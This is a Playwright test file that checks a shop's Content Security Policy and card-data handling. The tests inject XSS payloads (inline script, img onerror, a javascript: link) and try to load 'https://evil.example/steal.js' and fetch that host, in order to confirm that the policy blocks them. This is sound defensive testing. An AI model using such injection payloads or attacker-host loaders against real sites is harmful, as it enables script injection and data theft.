import { expect, type Page, test } from '@playwright/test';
import { addToCart, expectPaidOrder, fillCheckout } from './story';

/** Notes everything that a page's policy keeps it from doing, and every error in its console. */
async function noteViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const note: unknown = Reflect.get(window, 'noteViolation');
      const { violatedDirective, blockedURI, sourceFile, sample } = event;
      if (typeof note === 'function')
        note(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sourceFile} ${sample}`);
    });
  });
  page.on('console', (message) => {
    if (/content.security.policy/i.test(message.text())) violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(error.message));
  return violations;
}

test('a whole visit, in which every page and every menu is used, breaks the policy nowhere', async ({
  page,
}) => {
  const violations = await noteViolations(page);
  await page.goto('/');
  await page
    .getByRole('link', { name: /arcade/i })
    .first()
    .click();
  await expect(page).toHaveURL(/products/);
  await addToCart(page, 'arcade-button');
  await page.goto('/cart');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page
    .getByRole('button', { name: /^One more/ })
    .first()
    .click();
  await page.getByTestId('currency').selectOption('EUR');
  await expect(page.getByRole('main')).toContainText('€');
  await fillCheckout(page);
  await page.getByRole('button', { name: 'Test cards' }).click();
  await page.getByRole('menuitem', { name: /4242/ }).click();
  await page.getByTestId('pay').click();
  const order = await expectPaidOrder(page);
  await page.goto(order);
  await expectPaidOrder(page);
  await page.goto('/orders');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  for (const missing of ['/nothing', '/nothing.html', '/products/nothing']) {
    await page.goto(missing);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  expect(violations).toEqual([]);
});

test('a stranger whose markup got into a page runs nothing in it', async ({ page }) => {
  const violations = await noteViolations(page);
  const markup =
    '<script>window.stolen = true</script><img src="/nothing.png" onerror="window.stolen = true">';
  // As a fault of the shop's would that writes unescaped text into a page, with the headers that the page has.
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace('</body>', `${markup}</body>`) });
  });
  await page.goto('/');
  await expect.poll(() => violations.join('\n')).toMatch(/script-src-elem inline/);
  await expect.poll(() => violations.join('\n')).toMatch(/script-src-attr inline/);
  expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
});

test('a script in a page adds no other scripts to it, and sends nothing elsewhere', async ({ page }) => {
  const violations = await noteViolations(page);
  await page.goto('/');
  const refused = await page.evaluate(async () => {
    const script = (): HTMLScriptElement => document.body.appendChild(document.createElement('script'));
    const link = document.body.appendChild(document.createElement('a'));
    const ways: readonly (() => unknown)[] = [
      () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.stolen = true">'),
      () => link.setAttribute('onclick', 'window.stolen = true'),
      () => script().append('window.stolen = true'),
      () => Reflect.set(script(), 'textContent', 'window.stolen = true'),
      () => Reflect.set(script(), 'src', 'https://evil.example/steal.js'),
      () => Reflect.set(script(), 'src', '/api/health'),
      () => fetch('https://evil.example/'),
    ];
    const endings = await Promise.all(
      ways.map(async (way) => way()).map((done) => done.catch(() => 'refused')),
    );
    link.href = 'javascript:window.stolen=true';
    link.click();
    return endings.map((ending) => ending === 'refused');
  });
  // Text that is appended to a script is let in, and not run.
  expect(refused).toEqual([true, true, false, true, true, true, true]);
  await expect.poll(() => violations.join('\n')).toMatch(/connect-src https:\/\/evil\.example/);
  expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
});

test('the number of the card goes to the processor, and in no form to the shop', async ({
  page,
  baseURL,
}) => {
  const toShop: string[] = [];
  const toProcessor: string[] = [];
  page.on('request', (request) => {
    const sent = [request.url(), JSON.stringify(request.headers()), request.postData() ?? ''].join('\n');
    (request.url().startsWith(baseURL ?? '') ? toShop : toProcessor).push(sent);
  });
  await addToCart(page, 'arcade-button');
  await fillCheckout(page);
  await page.getByTestId('pay').click();
  await expectPaidOrder(page);
  const number = /4242[ +%20-]*4242/;
  expect(toProcessor.filter((sent) => number.test(sent))).toHaveLength(1);
  expect(toShop.length).toBeGreaterThan(5);
  expect(toShop.filter((sent) => number.test(sent))).toEqual([]);
  const kept = await page.evaluate(() =>
    JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie]),
  );
  expect(kept).not.toMatch(number);
  expect(kept).not.toContain('doubletap_session');
});
